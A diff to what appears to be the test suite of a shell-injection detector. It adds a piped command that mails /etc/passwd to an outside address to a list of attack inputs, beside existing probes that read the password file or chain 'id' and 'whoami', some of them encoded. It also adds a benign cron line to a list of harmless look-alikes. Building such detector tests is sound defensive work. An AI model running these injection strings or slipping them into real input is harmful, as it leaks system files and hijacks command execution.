@@ -54,6 +54,7 @@ const ATTACKS = [
   'look at this: cat+/et*/*wd lol',
   'look at this: ifconfig; lol',
   "look at this: /usr/bin/perl -e 'print 1' lol",
+  '| mail -s hi bob@example.com < /etc/passwd',
 ]
 
 const ENCODED = ['%3Bid', '%7Cwhoami', '&#59;id', '；ｉｄ', '\\u003bid', ';i\u200bd']
@@ -75,6 +76,7 @@ const CHAT = [
   'C++ and C+ are grades; A+ is better',
   'Note: perl -e is handy',
   'install it under /usr/lib/python3*/site-packages',
+  '0 7 * * * echo "Linux is just a fad" | mail bob@example.com -s= "And remember..."',
   'print "yes" if /(ibm|apple|awk)/;',
   'For example, "if (0 == 1) quit" will cause bc to terminate.',
   'Return `0` if `v1 == v2`, or `1` if `v1` is greater',
